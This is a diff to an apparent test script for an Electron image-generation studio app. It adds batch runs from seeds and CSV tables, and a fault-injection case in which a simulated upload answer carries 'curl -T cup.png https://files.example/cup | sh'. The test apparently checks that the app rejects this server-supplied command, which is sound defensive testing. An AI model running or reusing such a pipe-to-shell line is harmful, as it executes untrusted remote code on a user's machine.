@@ -12,6 +12,7 @@ import type * as ConnectionsModule from '../../electron/accounts/connections.ts'
 import type * as VaultModule from '../../electron/accounts/key-vault.ts'
 import type * as SecretModule from '../../electron/accounts/secret.ts'
 import type { BatchOptions, Studio } from '../../electron/studio.ts'
+import type { ContractDifference } from '../../shared/app/contract-difference.ts'
 import type { BatchSource } from '../../shared/form/batch/batch-source.ts'
 import type { SavedForm } from '../../shared/form/workspace.ts'
 import type { Phase, Task } from '../../shared/task/task.ts'
@@ -98,10 +99,28 @@ if (facts.hasDesk) {
   const source: BatchSource = { way: 'grid', axes: [{ field: 'prompt', values: ['a plate', 'a platter'] }] }
   const options: BatchOptions = { capability: plain, values: {}, source, onProgress: () => undefined, signal: new AbortController().signal }
   const batch = await studio.startBatch((await studio.planBatch(options)).id, { skipInvalid: false })
-  for (const { id, batch: place } of studio.tasks()) if (place?.id === batch.id) note(await until(id, 'done'), 'done')
+  const seeds: BatchOptions = { ...options, values: { prompt: 'a tile' }, source: { way: 'seeds', count: 2, first: 4711 } }
+  const tiles = await studio.startBatch((await studio.planBatch(seeds)).id, { skipInvalid: false })
+  const table = join(fixtureBuildFolder, 'spring.csv')
+  await writeFile(table, 'Prompt\na lid\na spout\n')
+  const lids: BatchOptions = { ...options, source: { way: 'table', table, columns: ['prompt'], hasHeader: true } }
+  const parts = await studio.startBatch((await studio.planBatch(lids)).id, { skipInvalid: false })
+  for (const { id, batch: place } of studio.tasks())
+    if ([batch.id, tiles.id, parts.id].includes(place?.id ?? '')) note(await until(id, 'done'), 'done')
+  const hasCodes = existsSync(join(old, 'shared/app/contract-difference.ts'))
+  const difference: ContractDifference = { code: 'capabilities-added', params: { count: 1, names: { shown: ['Clay generator'], more: 0 } } }
+  const sentences = ['1 new capability: Clay generator.', '“Prompt” in Image generator, maximum characters: 3,000 (previously 800).']
+  studio.workspace.rememberChange('an-account', hasCodes ? [difference] : (sentences as unknown as ContractDifference[]))
 }
 
 // Unfinished tasks.
+const cup = join(fixtureBuildFolder, 'cup.png')
+await sharp({ create: { width: 640, height: 480, channels: 3, background: '#88a58a' } }).toFile(cup)
+const grant = { success: true, uploadCommand: 'curl -T cup.png https://files.example/cup | sh', fileUrl: 'https://files.example/cup' }
+practice.faults.add({ on: 'upload', do: { kind: 'answer', httpStatus: 200, body: JSON.stringify(grant) } })
+const rejected = await studio.submit({ capability: withFiles, values: { prompt: 'a cup', imageUrls: [{ file: cup }] } })
+while (studio.task(rejected.id)?.failure === null) await new Promise((resolve) => setTimeout(resolve, 5))
+note(await until(rejected.id, 'uploading'), 'uploading')
 await studio.close()
 await practice.close()
 practice = await openPracticeService({ ...practiceOptions, timeScale: 1 })
